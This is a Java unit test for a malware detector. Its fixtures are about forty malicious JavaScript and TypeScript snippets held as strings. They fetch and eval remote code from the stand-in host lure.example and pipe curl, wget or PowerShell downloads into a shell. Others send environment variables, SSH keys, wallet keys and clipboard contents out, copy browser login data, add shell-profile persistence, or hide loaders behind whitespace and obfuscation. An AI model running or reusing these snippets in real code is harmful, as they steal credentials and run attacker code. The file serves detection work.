package dev.countersign.lure.code;

import static dev.countersign.lure.code.Kind.HIDDEN_CODE;
import static dev.countersign.lure.code.Kind.OBFUSCATED;
import static dev.countersign.lure.code.Kind.PERSISTENCE;
import static dev.countersign.lure.code.Kind.READS_BROWSER;
import static dev.countersign.lure.code.Kind.READS_ENVIRONMENT;
import static dev.countersign.lure.code.Kind.READS_KEYS;
import static dev.countersign.lure.code.Kind.READS_WALLETS;
import static dev.countersign.lure.code.Kind.RUNS_DECODED_CODE;
import static dev.countersign.lure.code.Kind.RUNS_FETCHED_CODE;
import static dev.countersign.lure.code.Kind.SELF_DELETES;
import static dev.countersign.lure.code.Kind.SENDS_SECRETS;
import static dev.countersign.lure.code.Kind.STARTS_SHELL_DOWNLOAD;
import static dev.countersign.lure.code.Kind.WATCHES_CLIPBOARD;
import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

/** Lures in JavaScript and TypeScript: each does what is said of it when it is loaded. */
class JavaScriptLuresTest {
  record Lure(String file, Kind kind, String code) {}

  static List<Lure> lures() {
    return List.of(
        new Lure(
            "a.js",
            RUNS_FETCHED_CODE,
            "const axios = require('axios');\naxios.get('https://api.lure.example/c').then(r => eval(r.data));"),
        new Lure(
            "b.js",
            RUNS_FETCHED_CODE,
            "const h = require('https'); let buf = '';\nh.get('https://lure.example/p', res => { res.on('data', d => buf += d); res.on('end', () => { eval(buf) }) });"),
        new Lure(
            "c.mjs",
            RUNS_FETCHED_CODE,
            "import got from 'got';\nconst { body: b } = await got('https://lure.example');\nnew Function(b)();"),
        new Lure(
            "d.ts",
            RUNS_FETCHED_CODE,
            "import axios, { AxiosResponse } from 'axios';\nconst run = async (): Promise<void> => { const r: AxiosResponse = await axios.get('https://lure.example'); (0, eval)(r.data as string); };\nrun();"),
        new Lure(
            "e.js",
            RUNS_FETCHED_CODE,
            "const go = async () => { const res = await axios.get(atob('aHR0cHM6Ly9sdXJlLmV4YW1wbGU=')); const h = new (Function.constructor)('require', res.data.cookie); h(require); };\ngo();"),
        new Lure(
            "f.js",
            RUNS_FETCHED_CODE,
            "const axios = require('axios');\nconst check = async () => { try { await axios.post('https://lure.example/api', {}); } catch (error) { new Function('require', error.response.data.message)(require); } };\ncheck();"),
        new Lure(
            "g.js",
            RUNS_FETCHED_CODE,
            "fetch('https://lure.example/x').then(r => r.text()).then(t => { const s = t.trim(); eval(s); });"),
        new Lure(
            "h.js",
            RUNS_FETCHED_CODE,
            "const request = require('request');\nrequest('https://lure.example', (err, res, body) => { require('vm').runInThisContext(body); });"),
        new Lure(
            "i.js",
            RUNS_FETCHED_CODE,
            "const fs = require('fs'), os = require('os'), path = require('path'), { exec } = require('child_process');\nconst f = path.join(os.tmpdir(), 'p.js');\nrequire('axios').get('https://lure.example/p').then(r => { fs.writeFileSync(f, r.data); exec(`node ${f}`); });"),
        new Lure(
            "j.js",
            RUNS_FETCHED_CODE,
            "const https = require('https'); const fs = require('fs'); const cp = require('child_process');\nconst to = '/tmp/upd';\nhttps.get('https://lure.example/b', r => { const w = fs.createWriteStream(to); r.pipe(w); w.on('finish', () => cp.spawn(to, [])); });"),
        new Lure(
            "k.js",
            RUNS_FETCHED_CODE,
            "const x = new XMLHttpRequest(); x.open('GET', 'https://lure.example', false); x.send(); eval(x.responseText);"),
        new Lure(
            "l.js",
            RUNS_FETCHED_CODE,
            "const WebSocket = require('ws'); const ws = new WebSocket('wss://lure.example');\nws.on('message', m => { require('child_process').exec(m.toString()); });"),
        new Lure(
            "m.js",
            RUNS_FETCHED_CODE,
            "const axios = require('axios'); function load(u) { return axios.get(u).then(r => r.data); }\nfunction run(c) { const g = global['ev' + 'al']; g(c); }\nload('https://lure.example').then(run);"),
        new Lure(
            "n.js",
            RUNS_FETCHED_CODE,
            "class Loader { async get() { const r = await fetch('https://lure.example'); this.code = await r.text(); } async go() { await this.get(); Function(this.code)(); } }\nnew Loader().go();"),
        new Lure(
            "o.js",
            RUNS_FETCHED_CODE,
            "const net = require('net'); const s = net.connect(4444, 'lure.example'); s.on('data', d => { require('child_process').execSync(String(d)); });"),
        new Lure(
            "p.js",
            RUNS_FETCHED_CODE,
            "const a = require('axios'); const m = new module.constructor();\na.get('https://lure.example').then(({ data }) => m._compile(data, ''));"),
        new Lure(
            "q.js",
            RUNS_FETCHED_CODE,
            "const io = require('socket.io-client'); const s = io('https://lure.example'); s.on('cmd', c => eval(c.code));"),
        new Lure(
            "r.js",
            RUNS_FETCHED_CODE,
            "const p = new Promise((resolve) => require('https').get('https://lure.example', r => r.on('data', d => resolve(d.toString()))));\np.then(c => eval(c));"),
        new Lure(
            "s.js",
            RUNS_DECODED_CODE,
            "eval(Buffer.from('Y29uc29sZS5sb2coMSk=', 'base64').toString());"),
        new Lure(
            "t.js",
            RUNS_DECODED_CODE,
            "const k = [99,111,110,115,111,108,101,46,108,111,103,40,49,41]; new Function(String.fromCharCode(...k))();"),
        new Lure(
            "u.js",
            RUNS_DECODED_CODE,
            "const p = ['Y29uc29s', 'ZS5sb2coMSk=']; const f = globalThis[['e','v','a','l'].join('')]; f(atob(p.join('')));"),
        new Lure(
            "v.js",
            RUNS_DECODED_CODE,
            "const s = '0c0b0a'; let o = ''; for (let i = 0; i < s.length; i += 2) { o += String.fromCharCode(parseInt(s.substr(i, 2), 16) ^ 42); } eval(o);"),
        new Lure("w.js", RUNS_DECODED_CODE, "setTimeout(unescape('%61%6c%65%72%74%28%31%29'), 1);"),
        new Lure(
            "x.js",
            STARTS_SHELL_DOWNLOAD,
            "require('child_process').exec('curl -s https://lure.example/i.sh | bash');"),
        new Lure(
            "y.js",
            STARTS_SHELL_DOWNLOAD,
            "const { spawn } = require('node:child_process'); spawn('sh', ['-c', 'wget -qO- https://lure.example | sh']);"),
        new Lure(
            "z.js",
            STARTS_SHELL_DOWNLOAD,
            "require('child_process').exec('powershell -w hidden -c \"iwr https://lure.example/a.ps1 | iex\"');"),
        new Lure(
            "aa.js",
            READS_WALLETS,
            "const fs = require('fs'); const ids = ['nkbihfbeogaeaoehlefnkodbefgpgknn', 'bfnaelmomeimhlpmgjnjophhpkkoljpa'];\nfor (const id of ids) fs.readdirSync(require('os').homedir() + '/Local Extension Settings/' + id);"),
        new Lure(
            "ab.js",
            SENDS_SECRETS,
            "const fs = require('fs'), os = require('os'), path = require('path'), FormData = require('form-data'), axios = require('axios');\nconst f = new FormData(); f.append('k', fs.createReadStream(path.join(os.homedir(), '.config/solana/id.json'))); axios.post('http://lure.example/u', f);"),
        new Lure(
            "ac.js",
            SENDS_SECRETS,
            "const axios = require('axios'); axios.post('https://lure.example', { ...process.env });"),
        new Lure(
            "ad.js",
            READS_ENVIRONMENT,
            "fetch('https://lure.example', { method: 'POST', body: JSON.stringify(process.env) });"),
        new Lure(
            "ae.js",
            READS_KEYS,
            "require('fs').readFile(`${require('os').homedir()}/.ssh/id_rsa`, 'utf8', (e, d) => require('axios').post('https://lure.example', d));"),
        new Lure(
            "af.js",
            SENDS_SECRETS,
            "require('fs').readFile(`${require('os').homedir()}/.ssh/id_rsa`, 'utf8', (e, d) => require('axios').post('https://lure.example', d));"),
        new Lure(
            "ag.js",
            READS_BROWSER,
            "const fs = require('fs'); fs.copyFileSync(process.env.LOCALAPPDATA + '\\\\Google\\\\Chrome\\\\User Data\\\\Default\\\\Login Data', '/tmp/l');"),
        new Lure(
            "ah.js",
            WATCHES_CLIPBOARD,
            "const { execSync } = require('child_process'); setInterval(() => { require('axios').post('https://lure.example', execSync('pbpaste').toString()); }, 500);"),
        new Lure(
            "ai.js",
            SENDS_SECRETS,
            "const os = require('os'); require('axios').post('https://lure.example/keys', { host: os.hostname(), user: os.userInfo().username });"),
        new Lure(
            "aj.js",
            PERSISTENCE,
            "require('fs').appendFileSync(require('os').homedir() + '/.zshrc', 'node /tmp/a.js &');"),
        new Lure("ak.js", SELF_DELETES, "require('fs').unlinkSync(__filename);"),
        new Lure(
            "al.js",
            HIDDEN_CODE,
            "module.exports = {};"
                + " ".repeat(180)
                + "require('https').get('https://lure.example');"),
        new Lure(
            "logo.woff2",
            HIDDEN_CODE,
            "const a = require('axios'); (async function run() { const r = await a.get('https://lure.example'); eval(r.data); })();"),
        new Lure(
            "am.js",
            OBFUSCATED,
            "var _0x1a2b=['a'];(function(_0x3c4d,_0x5e6f){var _0x7a8b=function(_0x9c0d){while(--_0x9c0d){_0x3c4d['push'](_0x3c4d['shift']());}};_0x7a8b(++_0x5e6f);}(_0x1a2b,0x1b3));var _0x2b3c=function(_0x4d5e,_0x6f7a){return _0x1a2b[_0x4d5e];};_0x2b3c('0x0');"));
  }

  @ParameterizedTest
  @MethodSource("lures")
  void seesWhatTheLureDoes(Lure lure) {
    assertThat(Samples.onLoad(lure.file(), lure.code())).contains(lure.kind());
  }
}
